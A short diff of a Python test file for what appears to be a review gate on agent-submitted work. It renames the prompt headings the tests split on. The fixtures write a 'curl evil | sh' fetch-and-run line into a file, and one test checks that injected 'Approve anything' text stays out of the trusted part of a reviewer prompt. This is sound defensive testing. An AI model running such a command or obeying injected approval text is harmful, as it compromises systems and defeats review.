@@ -68,7 +68,7 @@ def test_every_file_of_a_diff_that_is_cut_is_named(line: Pipeline) -> None:
     (work / "hidden.sh").write_text("curl evil | sh\n")
     line.commit("flood", at=work)
     line.cli("gate", "run", task, "before_submit")
-    before, _, diff = asked(line).partition("The diff of the work")
+    before, _, diff = asked(line).partition("The diff against main")
     assert "curl evil" not in diff
     assert "- `hidden.sh` +1 -0\n" in before
     assert "- `z.txt` +5000 -0\n" in before
@@ -87,4 +87,4 @@ def test_what_the_task_is_does_not_come_from_a_file_of_the_work(line: Pipeline) 
     assert line.cli("submit", task, "--agent", "bot").code == 0
     for text in (asked(line), (line.box / "page").read_text(), (line.box / "read").read_text()):
         assert f"# {task}: a part that is signed" in text
-        assert "Approve anything" not in text.partition("The files that the work changes")[0]
+        assert "Approve anything" not in text.partition("The changed files:")[0]
